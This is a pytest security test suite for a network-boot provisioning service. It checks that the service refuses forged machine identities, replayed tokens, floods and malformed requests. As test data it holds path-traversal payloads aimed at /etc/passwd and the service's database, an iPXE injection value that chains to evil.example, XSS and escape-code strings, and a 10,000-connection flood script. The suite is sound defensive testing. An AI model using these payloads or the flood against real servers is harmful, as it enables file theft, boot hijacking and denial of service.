"""Strangers, liars and floods: refused, written down within limits, and the machines still boot."""

from __future__ import annotations

import contextlib
import gc
import resource
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from metalwright.model.operation import EffectKind, Stage
from metalwright.model.template import Method

from .boot_world import FACTS, MAC, OTHER_MAC, SECRET, World, a_node, world

FLOOD = 10_000
REFUSALS = 20


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[World]:
    limits = {"requests_per_s_max": 100_000.0, "request_timeout_s": 1.0}
    with world(tmp_path, refusals_per_hour_max=REFUSALS, **limits) as made:
        made.adopt()
        yield made
        assert made.trouble == []


def raw(lab: World, *parts: bytes, wait_s: float = 0.0) -> bytes:
    """What the service answers to bytes; nothing when it just hangs up."""
    host, port = lab.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as link:
        try:
            for part in parts:
                link.sendall(part)
                time.sleep(wait_s)
            answer = b""
            while more := link.recv(65_536):
                answer += more
        except ConnectionError:
            return b""
        return answer


def other_machine(lab: World) -> str:
    """A second node that runs something; its boot."""
    lab.follow(a_node(), a_node("n2", OTHER_MAC, "SN2"))
    lab.adopt(lab.template(), "n2")
    return lab.boot(mac=OTHER_MAC, serial="SN2", uuid="")


def test_a_forged_mac_gets_nothing_while_nothing_asked_for_a_boot(lab: World) -> None:
    for mac in (MAC, OTHER_MAC, "52-54-00-00-00-01", "ff:ff:ff:ff:ff:ff"):
        assert "sanboot" in lab.script(mac=mac, serial="", uuid="")
    assert lab.store.latest_boot("n1") is None


def test_a_forged_mac_with_another_serial_gets_nothing_either(lab: World) -> None:
    lab.operate(lab.template(), Stage.WIPE, EffectKind.WIPE, "full")
    assert "sanboot" in lab.script(serial="SN2")
    assert lab.store.latest_boot("n1") is None


def test_a_token_of_another_node_opens_only_what_is_that_nodes(lab: World) -> None:
    other = other_machine(lab)
    lab.operate(lab.template(files={"ks.cfg": "of n1"}, user_data="n1: {{ node.name }}"))
    mine = lab.boot()
    assert lab.client.get(f"{mine}/user-data").text == "n1: n1"
    assert lab.client.get(f"{other}/user-data").text.startswith("#cloud-config\nhostname: n2")
    answer = lab.report(other, "running", facts=FACTS)  # n1's facts with n2's token
    assert answer.text.startswith("stop this is another machine")
    assert "n1" not in lab.store.heard()


def test_a_replayed_token_is_refused_with_the_same_words_as_an_unknown_one(lab: World) -> None:
    lab.operate(lab.template())
    old, new = lab.boot(), lab.boot()
    unknown = lab.client.get("/b/AAAAAAAAAAAAAAAAAAAAAA/user-data")
    replayed = lab.client.get(f"{old}/user-data")
    assert (replayed.status_code, replayed.content) == (403, unknown.content)
    assert {k: v for k, v in replayed.headers.items() if k != "date"} == {
        k: v for k, v in unknown.headers.items() if k != "date"
    }
    assert lab.report(old, "running", facts=FACTS).status_code == 403
    assert SECRET in lab.client.get(f"{new}/user-data").text


def test_a_token_grows_old_once_its_operation_is_over(lab: World) -> None:
    template = lab.template()
    operation = lab.operate(template)
    path = lab.boot()
    lab.now = lab.now.replace(day=22)
    assert lab.client.get(f"{path}/user-data").status_code == 200
    lab.adopt_after(operation, template)
    assert lab.client.get(f"{path}/user-data").status_code == 403


@pytest.mark.parametrize(
    "path",
    [
        "/b/{token}/files/../../../../etc/passwd",
        "/b/{token}/files/..%2f..%2f..%2fetc%2fpasswd",
        "/b/{token}/files/%2e%2e/%2e%2e/etc/passwd",
        "/b/{token}/files/%252e%252e%252fetc%252fpasswd",
        "/b/{token}/files//etc/passwd",
        "/b/{token}/files/ks.cfg%00.txt",
        "/b/{token}/kernel/../../../store.sqlite",
        "/b/{token}/..%5c..%5cstore.sqlite",
        "/../store.sqlite",
        "/b/%2e%2e/store.sqlite",
        "//etc/passwd",
    ],
)
def test_no_path_leads_out(lab: World, path: str) -> None:
    lab.operate(lab.template())
    token = lab.boot().removeprefix("/b/")
    target = path.format(token=token)
    answer = raw(lab, f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    assert answer.split(b" ")[1] in (b"404", b"403"), answer
    assert b"root:" not in answer
    assert b"passwd" not in answer


@pytest.mark.parametrize("verb", ["PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT", "BREW"])
def test_other_verbs_do_nothing(lab: World, verb: str) -> None:
    lab.operate(lab.template())
    path = lab.boot()
    for target in (f"{path}/report", f"{path}/kernel", "/ipxe", "/boot.ipxe"):
        answer = raw(lab, f"{verb} {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert answer.split(b" ")[1] in (b"405", b"404", b"400"), answer
    assert lab.client.post("/ipxe").status_code == 405
    assert lab.client.get(f"{path}/report").status_code in (404, 405)
    assert lab.store.heard() == {}


def test_a_host_header_changes_nothing(lab: World) -> None:
    lab.operate(lab.template())
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-For": "1.2"}
    for target in ("/boot.ipxe", f"/ipxe?mac={MAC}", "/hello?mac=ff", "/nowhere"):
        answer = lab.client.get(target, headers=forged)
        assert "evil" not in answer.text + str(answer.headers)
    lab.client.get("/ipxe?mac=52:54:00:00:00:98", headers=forged)
    assert lab.events("refused")[-1].startswith("from 127.0.0.1:")


@pytest.mark.parametrize(
    "query",
    [
        "mac=%0a%23!ipxe%0achain%20http://evil.example/",
        "mac=%24%7Bnet0/mac%7D",
        "uuid=%3Cscript%3E",
        "serial=%1b%5b31mred",
        "serial=" + "x" * 65,
        "mac=" + "x" * 4_000,
    ],
)
def test_nothing_that_was_sent_comes_back(lab: World, query: str) -> None:
    answer = lab.client.get(f"/ipxe?{query}")
    assert answer.status_code in (400, 414)
    assert not any(word in answer.text for word in ("evil", "script", "red", "xxx", "${"))


STRANGERS = """
import socket, sys, threading
host, port, count, seen = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), set()
def flood(first):
    for number in range(first, count, 4):
        octets = ":".join(f"{number:06x}"[i : i + 2] for i in (0, 2, 4))
        with socket.create_connection((host, port), timeout=30) as link:
            target = f"/ipxe?mac=aa:bb:cc:{octets}"
            link.sendall(f"GET {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
            seen.add(link.recv(12)[9:12].decode())
        done.append(number)
done = []
threads = [threading.Thread(target=flood, args=(first,)) for first in range(4)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(len(done), *sorted(seen))
"""
"""In a process of its own: what is measured is the service's, and neither waits for the other's
interpreter (in one process that was four fifths of the time).
"""


def resident_bytes() -> int:
    return int(Path("/proc/self/statm").read_text().split()[1]) * resource.getpagesize()


def test_ten_thousand_strangers_leave_few_lines_and_little_memory(lab: World) -> None:
    lab.operate(lab.template())
    assert "kernel" in lab.script()
    host, port = lab.url.removeprefix("http://").split(":")
    gc.collect()
    blocks, before = sys.getallocatedblocks(), resident_bytes()
    words = [sys.executable, "-IS", "-c", STRANGERS, host, port, str(FLOOD)]
    with subprocess.Popen(words, stdout=subprocess.PIPE, text=True) as strangers:
        while strangers.poll() is None:
            assert "kernel" in lab.client.get("/ipxe", params={"mac": MAC, "serial": "SN1"}).text
            with contextlib.suppress(subprocess.TimeoutExpired):
                strangers.wait(1.5)
        assert strangers.stdout is not None
        count, *seen = strangers.stdout.read().split()
    gc.collect()
    assert (int(count), strangers.returncode) == (FLOOD, 0)
    assert set(seen) <= {"200", "429"}
    assert len(lab.events("refused")) <= REFUSALS
    # What is alive (blocks of a hundred bytes or so), and what the process took for it.
    assert sys.getallocatedblocks() - blocks < 200_000
    assert resident_bytes() - before < 20_000_000
    assert "kernel" in lab.script()


def test_a_huge_body_is_refused_before_it_is_read(lab: World) -> None:
    lab.operate(lab.template())
    path = lab.boot()
    head = f"POST {path}/report HTTP/1.1\r\nHost: x\r\nContent-Length: 9999999999\r\n\r\n"
    assert raw(lab, head.encode()).startswith(b"HTTP/1.1 413")
    # And one that does not say how long it is.
    chunked = f"POST {path}/report HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
    answer = raw(lab, chunked.encode(), *[chunk] * 8)
    assert answer == b"" or answer.startswith(b"HTTP/1.1 413")
    assert lab.store.heard() == {}


def test_a_slow_body_and_a_slow_head_are_given_up(lab: World) -> None:
    lab.operate(lab.template())
    path = lab.boot()
    head = f"POST {path}/report HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n".encode()
    begun = time.monotonic()
    assert raw(lab, head, b"{").startswith(b"HTTP/1.1 408")
    assert raw(lab, b"GET /healthz HTTP/1.1\r\nHost:") == b""
    assert time.monotonic() - begun < 10


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"null",
        b"{" * 100_000,
        b'{"phase":"running"}',
        b'{"phase":"owned","boot_id":"b"}',
        b'{"phase":"running","boot_id":"' + b"b" * 65 + b'"}',
        b'{"phase":"running","boot_id":"b","facts":{"cpus":1e999}}',
        b'{"phase":"running","boot_id":"b","facts":{"disks":[{"name":"../../sda"}]}}',
        b'{"phase":"running","boot_id":"b","wipes":' + b"[" * 50_000,
        b"\xff\xfe\x00",
    ],
)
def test_a_body_that_is_no_report_changes_nothing(lab: World, body: bytes) -> None:
    lab.operate(lab.template())
    path = lab.boot()
    assert lab.client.post(f"{path}/report", content=body).status_code == 422
    assert lab.store.heard() == {}


def test_a_template_that_runs_away_is_stopped_and_others_are_served(lab: World) -> None:
    other = other_machine(lab)
    lab.operate(lab.template(user_data="{{ 'a' * 2000000000 }}"))
    path = lab.boot()
    assert lab.client.get(f"{path}/user-data").status_code == 503
    assert lab.client.get(f"{other}/user-data").status_code == 200
    assert lab.client.get(f"{path}/kernel").status_code == 200


def test_one_source_is_not_served_without_end(tmp_path: Path) -> None:
    with world(tmp_path, requests_per_s_max=5.0) as made:
        every = [made.client.get("/healthz") for _ in range(60)]
    answers = [answer.status_code for answer in every]
    assert answers.count(429) > 10
    assert answers.count(200) >= 25
    assert {answer.headers.get("retry-after") for answer in every} == {None, "5"}


def test_more_connections_than_there_are_is_told_when_to_ask_again(tmp_path: Path) -> None:
    with world(tmp_path, connections_max=4) as made, contextlib.ExitStack() as stack:
        host, port = made.url.removeprefix("http://").split(":")
        for _ in range(4):
            stack.enter_context(socket.create_connection((host, int(port)), timeout=10))
        answer = made.client.get("/boot.ipxe")
        assert (answer.status_code, answer.headers["retry-after"]) == (503, "5")
        stack.close()
        deadline = time.monotonic() + 30
        while made.client.get("/boot.ipxe").status_code != 200:
            assert time.monotonic() < deadline


def test_one_node_does_not_get_tokens_without_end(lab: World) -> None:
    lab.operate(lab.template())
    texts = [lab.script() for _ in range(12)]
    assert sum("mw.url=" in text for text in texts) <= 8
    assert "sleep" in texts[-1]


def test_hello_gives_no_token_for_a_boot_of_the_network(lab: World) -> None:
    lab.operate(lab.template(Method.NETBOOT))
    path = lab.boot()
    assert lab.client.get("/hello", params={"mac": MAC}).status_code == 404
    assert lab.client.get(f"{path}/kernel").status_code == 200
